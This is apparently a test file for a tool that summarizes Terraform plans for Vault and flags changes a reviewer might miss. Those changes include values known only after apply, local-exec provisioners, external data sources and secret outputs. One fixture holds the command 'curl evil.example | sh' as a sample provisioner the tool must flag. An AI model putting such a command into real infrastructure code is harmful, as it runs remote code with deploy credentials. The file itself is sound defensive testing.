/** Ways to hide from a reviewer what an apply would do. */
import { readPlan } from '../../../../cli/src/plan/read-plan';
import { linesOf, summarize } from '../../../../cli/src/plan/summary';

const role = (change: object) => ({
  address: 'vault_approle_auth_backend_role.login',
  mode: 'managed',
  type: 'vault_approle_auth_backend_role',
  change,
});

async function said(plan: object): Promise<string[]> {
  const summary = await summarize('vault-dev', readPlan(JSON.stringify({ format_version: '1.2', ...plan })));
  return linesOf(summary).map(({ grade, subject, sentence }) => `${grade} ${subject}: ${sentence}`);
}

it('a policy in a list that is known only after the apply, of a new role', async () => {
  const after = { role_name: 'api', token_policies: [null], token_bound_cidrs: ['10.0.0.0/8'] };
  const change = { actions: ['create'], after, after_unknown: { token_policies: [true] } };
  await expect(said({ resource_changes: [role(change)] })).resolves.toContain(
    'unknown AppRole api: token_policies is known only after the apply',
  );
});

it('an address inside a block that is known only after the apply, of a new connection', async () => {
  const resource = {
    address: 'vault_database_secret_backend_connection.postgres',
    mode: 'managed',
    type: 'vault_database_secret_backend_connection',
    change: {
      actions: ['create'],
      after: { name: 'postgres', postgresql: [{ username: 'vault_admin' }] },
      after_unknown: { postgresql: [{ connection_url: true }] },
    },
  };
  await expect(said({ resource_changes: [resource] })).resolves.toContain(
    'unknown database connection postgres: connection_url is known only after the apply',
  );
});

it('a script beside a harmless resource, which runs with the credentials of the deploy', async () => {
  const address = 'module.x.terraform_data.note[0]';
  const resource = {
    address,
    mode: 'managed',
    type: 'terraform_data',
    change: { actions: ['create'], after: {} },
  };
  const plan = {
    resource_changes: [resource],
    configuration: {
      root_module: {
        module_calls: {
          x: {
            module: {
              resources: [
                {
                  address: 'terraform_data.note',
                  provisioners: [
                    {
                      type: 'local-exec',
                      expressions: { command: { constant_value: 'curl evil.example | sh' } },
                    },
                  ],
                },
              ],
            },
          },
        },
      },
    },
  };
  await expect(said(plan)).resolves.toContain(
    `danger ${address}: runs a provisioner on the machine that deploys`,
  );
});

it('an import, which changes nothing but who manages it', async () => {
  const change = {
    actions: ['no-op'],
    importing: { id: 'auth/approle/role/api' },
    before: { role_name: 'api' },
    after: { role_name: 'api' },
  };
  await expect(said({ resource_changes: [role(change)] })).resolves.toEqual([
    'notice AppRole api: exists already, and will be managed here',
  ]);
});

it('an output, which the state keeps and every log shows', async () => {
  const output_changes = {
    leak: { actions: ['create'], before: null, after: 'hvs.abcdefghijklmnopqrstuvwxyz' },
  };
  const [line, ...others] = await said({ output_changes });
  expect(others).toEqual([]);
  expect(line).toMatch(/^notice output\.leak: will be created/);
});

it('a program that is a data source, which runs at every plan', async () => {
  const resources = [{ address: 'data.external.x', mode: 'data', type: 'external' }];
  const module_calls = { a: { module: { resources } } };
  await expect(said({ configuration: { root_module: { resources, module_calls } } })).resolves.toEqual([
    'danger data.external.x: runs a program on the machine that plans',
    'danger module.a.data.external.x: runs a program on the machine that plans',
  ]);
});

it('data that is read at the apply only', async () => {
  const change = { actions: ['read'], before: null, after: { a: 'b' } };
  const resource = {
    address: 'data.vault_generic_secret.x',
    mode: 'data',
    type: 'vault_generic_secret',
    change,
  };
  await expect(said({ resource_changes: [resource] })).resolves.toEqual([
    'unknown data.vault_generic_secret.x: will be read at the apply only',
  ]);
});

it('a resource that is known by another address from now on', async () => {
  const change = { actions: ['no-op'], before: { role_name: 'api' }, after: { role_name: 'api' } };
  const moved = { ...role(change), previous_address: 'vault_approle_auth_backend_role.old' };
  await expect(said({ resource_changes: [moved] })).resolves.toEqual([
    'notice AppRole api: will be known by another address, and stays as it is',
  ]);
});

it('an action that the engine invokes besides', () => {
  const plan = { format_version: '1.2', action_invocations: [{ address: 'action.aws_lambda_invoke.x' }] };
  expect(() => readPlan(JSON.stringify(plan))).toThrow('invokes actions');
});

it.each([
  ['danger', 'prod', 'dev'],
  ['danger', 'prod', 'prod,dev'],
  ['notice', 'prod,dev', 'prod'],
])('%s when a login bound to %s is bound to %s', async (grade, was, will) => {
  const claims = (environment: string) => ({ role_name: 'jobs', bound_claims: { environment } });
  const type = 'vault_jwt_auth_backend_role';
  const change = { actions: ['update'], before: claims(was), after: claims(will) };
  await expect(
    said({ resource_changes: [{ address: `${type}.jobs`, mode: 'managed', type, change }] }),
  ).resolves.toEqual([`${grade} JWT role jobs: is bound to environment ${was} → ${will}`]);
});
